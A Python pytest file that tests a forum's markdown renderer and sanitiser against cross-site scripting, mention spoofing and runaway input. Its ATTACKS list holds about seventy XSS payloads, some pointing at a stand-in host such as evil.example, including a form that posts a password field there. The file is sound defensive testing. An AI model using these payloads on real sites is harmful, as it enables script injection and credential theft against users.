"""Whatever people write, nothing but words and harmless marks comes out."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from forums.markup import ATTRIBUTES, SCHEMES, TAGS, plain, render

SCHEME = re.compile(r"^\s*([a-z][a-z0-9+.-]*)\s*:", re.IGNORECASE)


class Looker(HTMLParser):
    """Collects what a browser would make of it."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in {*ATTRIBUTES.get(tag, ()), *(("rel",) if tag == "a" else ())}:
                self.wrong.append(f"{tag}[{name}]")
            if (
                name == "href"
                and (found := SCHEME.match(re.sub(r"[\x00-\x20]", "", value or "")))
                and found[1].lower() not in SCHEMES
            ):
                self.wrong.append(value)
            if name == "class" and value != "mention":
                self.wrong.append(f"class {value}")

    def handle_comment(self, data) -> None:
        self.wrong.append("comment")

    def handle_decl(self, decl) -> None:
        self.wrong.append("declaration")


def wrong_in(html: str) -> list[str]:
    looker = Looker()
    looker.feed(html)
    return looker.wrong


ATTACKS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))", "[x](java&#10;script:alert(1))", "[x](&#106;avascript:alert(1))", "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))", "[x](<javascript:alert(1)>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)", "[x](\x01javascript:alert(1))", "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>",
    "![x](javascript:alert(1))", "![x](data:image/svg+xml;base64,PHN2Zz4=)", '![x](https://e.example/"onerror="alert(1))',
    '[x](https://e.example "onmouseover=alert(1)")', '[x](https://e.example/" onclick="alert(1))', "[x](https://e.example 'a\" onload=\"b')",
    "<style>*{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><input name=password></form>",
    "<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>", "<!DOCTYPE html><script>alert(1)</script>", "```<script>alert(1)</script>```", "```html onload=alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`", "    <script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<div style=position:fixed>", "<b id=x name=y class=header>", "# <img src=x onerror=alert(1)>", "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "> <script>alert(1)</script>", "* <iframe>", "https://e.example/<script>alert(1)</script>", 'https://e.example/"onmouseover="alert(1)',
    "https://e.example/'onmouseover='alert(1)", "http://\u202ejs.elpmaxe", "\x00<script>", "<a\x00href=javascript:alert(1)>", "<x onclick=alert(1)>",
    "@<script>alert(1)</script>", "@Rosa <b>Tiller</b>", "[@Rosa Tiller](javascript:alert(1))", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<select><script>alert(1)</script></select>", "<table background=javascript:alert(1)>",
    "[a](https://e.example)<img src=x onerror=alert(1)>", "<a href='https://e.example' onclick='alert(1)'>x</a>", "[x](//evil.example\\@good.example)",
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_leaves_a_script_a_handler_or_a_scheme_that_is_not_listed(attack):
    html = render(attack, names=["Rosa Tiller", "<script>alert(1)</script>"])
    assert wrong_in(html) == []


PIECES = st.sampled_from(
    [*ATTACKS, "[", "](", ")", "**", "_", "`", "```\n", "> ", "- ", "1. ", "\n", "\n\n", "|", "---", "<", ">", '"', "'", "&", "&#", ";",
     "javascript:", "data:", "https://", "http://e.example/", "on", "=", "@Rosa Tiller", "![", "\\", "~~", "#", "\t", "\u200b", "\ud7ff"]
)  # fmt: skip


@settings(max_examples=1500, deadline=None)
@given(st.lists(PIECES | st.text(max_size=12), max_size=20).map("".join))
def test_nothing_that_can_be_written_does(text):
    html = render(text, names=["Rosa Tiller"])
    assert wrong_in(html) == []
    assert wrong_in(render(html)) == []


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text("abcdefgh ÄÖé", min_size=1, max_size=20).filter(str.strip), min_size=1, max_size=6))
def test_plain_words_come_out_as_they_went_in(lines):
    words = " ".join(" ".join(lines).split())
    assert plain(render(words)) == words


def test_marks_of_a_letter_are_kept():
    html = render(
        "# Plan\n\n**bold** *slanted* ~~gone~~ `code`\n\n> said\n\n- one\n- two\n\n3. three\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for part in (
        "<h3>Plan</h3>", "<strong>bold</strong>", "<em>slanted</em>", "<s>gone</s>", "<code>code</code>", "<blockquote>", "<li>one</li>",
        '<ol start="3">', "<th>a</th>", "<td>1</td>",
    ):  # fmt: skip
        assert part in html


def test_lines_stay_lines_and_raw_html_is_shown_as_it_was_written():
    assert render("one\ntwo") == "<p>one<br>\ntwo</p>\n"
    assert render("<b>loud</b>") == "<p>&lt;b&gt;loud&lt;/b&gt;</p>\n"


def test_bare_addresses_become_links_that_tell_nobody_and_pass_on_nothing():
    html = render("See https://ies.ed.gov/ncee/wwc, it helps.")
    assert (
        html
        == '<p>See <a href="https://ies.ed.gov/ncee/wwc" rel="nofollow noopener ugc">https://ies.ed.gov/ncee/wwc</a>, it helps.</p>\n'
    )
    assert render("[a https://x.example](https://y.example)").count("<a ") == 1
    assert "…</a>" in render("https://x.example/" + "a" * 90)


def test_a_picture_elsewhere_is_a_link_to_it():
    assert render("![our room](https://x.example/a.png)") == (
        '<p><a href="https://x.example/a.png" rel="nofollow noopener ugc">our room</a></p>\n'
    )


def test_only_those_who_may_read_stand_out_as_mentioned():
    html = render("@Rosa Tiller and @Kit Marlowe and rosa@Rosa Tillerson", names=["Rosa Tiller"])
    assert html.count("mention") == 1
    assert '<span class="mention">@Rosa Tiller</span> and @Kit Marlowe' in html
    assert render("`@Rosa Tiller` [@Rosa Tiller](https://x.example)", names=["Rosa Tiller"]).count("mention") == 0


@pytest.mark.parametrize(
    "text",
    ["> " * 10_000, "[" * 20_000, "*a" * 10_000, "`" * 20_000, "- " * 10_000, "![](" * 5_000, "<" * 20_000, "&" * 20_000, "|a" * 10_000,
     "https://e" * 2_000, "@A b" * 5_000, "a\n" * 10_000, "x" * 1_000_000],
    ids=lambda text: text[:4],
)  # fmt: skip
def test_deep_and_long_input_ends_soon(text):
    began = time.process_time()
    render(text, names=["A b"])
    assert time.process_time() - began < 5, "well above what a busy machine needs, far below what a runaway takes"


def test_plain_words_of_a_post_have_their_lines_and_no_marks():
    assert plain(render("**One** & two\n\n- a\n- b")) == "One & two\n\na\n\nb"
